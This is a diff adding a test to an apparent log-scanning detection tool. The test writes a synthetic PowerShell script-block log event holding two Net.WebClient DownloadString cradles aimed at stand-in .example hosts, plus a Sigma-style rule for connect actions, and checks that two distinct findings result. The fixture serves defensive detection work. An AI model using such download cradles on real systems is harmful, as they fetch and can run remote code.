@@ -83,4 +83,39 @@ describe('identity of findings', () => {
       }),
       { numRuns: 25, seed: 1 },
     ))
+
+  it('is distinct where one record tells of several actions of a script', async () => {
+    const dir = mkdtempSync(join(root, 'actions-'))
+    const fetched = ['a', 'b'].map(
+      (host) =>
+        `(New-Object Net.WebClient).DownloadString('http://${host}.example/x')`,
+    )
+    const block = {
+      EventID: 4104,
+      Channel: 'Microsoft-Windows-PowerShell/Operational',
+      Provider_Name: 'Microsoft-Windows-PowerShell',
+      Computer: 'h',
+      TimeCreated: '2026-01-01T10:00:00.000Z',
+      ScriptBlockId: 'b1',
+      MessageNumber: 1,
+      MessageTotal: 1,
+      ScriptBlockText: fetched.join('; '),
+    }
+    writeFileSync(join(dir, 'log.jsonl'), `${JSON.stringify(block)}\n`)
+    const asked = join(root, 'actions.yml')
+    writeFileSync(
+      asked,
+      `title: connects
+id: 6c5a7d44-98a1-4a4e-9a0f-1f5f6c1a9b21
+logsource: { category: script_action }
+detection: { it: { ActionKind: connect }, condition: it }
+level: low
+`,
+    )
+    const { findings } = await scanPaths([dir], {
+      rules: { paths: [asked], builtin: false },
+    })
+    expect(findings.length).toBe(2)
+    expect(new Set(findings.map((f) => f.id)).size).toBe(2)
+  })
 })
